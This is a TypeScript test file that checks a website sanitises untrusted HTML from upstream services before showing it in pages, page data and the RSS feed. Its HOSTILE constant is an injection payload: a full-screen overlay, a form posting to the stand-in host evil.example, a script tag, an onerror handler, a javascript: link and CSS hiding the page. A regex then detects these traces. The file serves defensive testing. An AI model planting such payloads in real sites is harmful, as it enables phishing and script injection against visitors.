/**
 * HTML of services by URL that sanitise nothing: what stands in a page, in its data and in the feed is the harmless part
 * all the same. Architecture, Trust; decision 40; security page, attack cases 8 and 9.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { serviceVariable } from '../../config.ts';
import { serviceNames } from '../../rest/contract.ts';
import { openAlteringServer, type AlteringServer } from '../conformance/alteringServer.ts';
import { httpOf, type Answer, type Http } from '../support/http.ts';
import { startStack, type Stack } from '../support/stack.ts';
import { editorOf } from './editing.ts';
import { us } from './faultyParts.ts';

/** What a careless house lets its writers store. */
const HOSTILE =
  '<div style="position:fixed;inset:0;z-index:9999" id="evil">Cover<form action="https://evil.example/"><input name="p">' +
  '</form><script>window.evil=1</script><style>body{display:none}</style><img src="/x.jpg" onerror="window.evil=1">' +
  '<a href="javascript:evil()">go</a></div>';
/** Nothing of these may be left of it, as a tag or written out in a feed or a page's data. */
const TRACES = /evil|position:fixed|onerror|<form action|display:none|javascript:/g;
const tracesIn = (text: string): string[] => text.match(TRACES) ?? [];

let services: Stack;
let house: AlteringServer;
let site: Stack;
let http: Http;
beforeAll(async () => {
  services = await startStack();
  const editor = editorOf(services);
  await editor.text('words', '<p>Kept.</p>');
  await editor.homeRow('default', ['words']);
  const live = { global: { status: 'publish', title: '', isHome: false } };
  await editor.page('parts', { ...live, sections: [{ type: 'text', html: '<p>Kept.</p>' }] });
  await editor.page('whole', { ...live, isNewEditor: true, newEditorContent: '<p>Kept.</p>' });

  house = await openAlteringServer(services.url);
  house.alter = (answer, { path }) =>
    path.includes('/devotionals') || path.includes('/pages2020') || path.includes('/widgets')
      ? { ...answer, body: hostile(answer.body) }
      : answer;
  const settings = Object.fromEntries(serviceNames.map((name) => [serviceVariable(name), house.url]));
  site = await startStack({ databaseUrl: services.databaseUrl, settings });
  http = httpOf(site);
});
afterAll(async () => {
  await http?.close();
  await site?.stop();
  await house?.close();
  await services?.stop();
});

/** An answer with the hostile text before each piece of HTML in it. */
function hostile(given: unknown): unknown {
  if (Array.isArray(given)) return given.map(hostile);
  if (typeof given !== 'object' || given === null) return given;
  return Object.fromEntries(
    Object.entries(given).map(([key, value]) => {
      const isHtml = ['content', 'html', 'newEditorContent'].includes(key);
      if (isHtml && typeof value === 'string') return [key, HOSTILE + value];
      if (key === 'widgetContent') return [key, JSON.stringify(hostile(JSON.parse(String(value))))];
      return [key, hostile(value)];
    }),
  );
}

function expectHarmless(answer: Answer, shown: string): void {
  expect(answer.status).toBe(200);
  expect(tracesIn(answer.text)).toEqual([]);
  const main = answer.document().querySelector('main')!;
  expect(main.textContent).toContain(shown);
  expect(main.innerHTML).toContain('Cover<img src="/x.jpg"><a>go</a>');
}

it('the other house sends what it should not', async () => {
  const answer = await fetch(`${house.url}/api/devotionals-dev/v2?site_id=1-publish&on=11-21-2026`);
  expect(await answer.text()).toContain('onerror');
});

it.each([
  ['the text of a reading', '/2026/11/21', ''],
  ['the parts of a page', '/page/parts', 'Kept.'],
  ['a page of the new editor', '/page/whole', 'Kept.'],
  ['a piece of text on the home', '/', 'Kept.'],
])('%s has nothing harmful, on the screen and in its data', async (_, path, shown) => {
  expectHarmless(await http(path, us), shown);
});

it('the feed has nothing harmful', async () => {
  const { status, text } = await http('/feed.xml');
  expect(status).toBe(200);
  expect(tracesIn(text)).toEqual([]);
  expect(text).toContain('&lt;div&gt;Cover&lt;img src=');
});
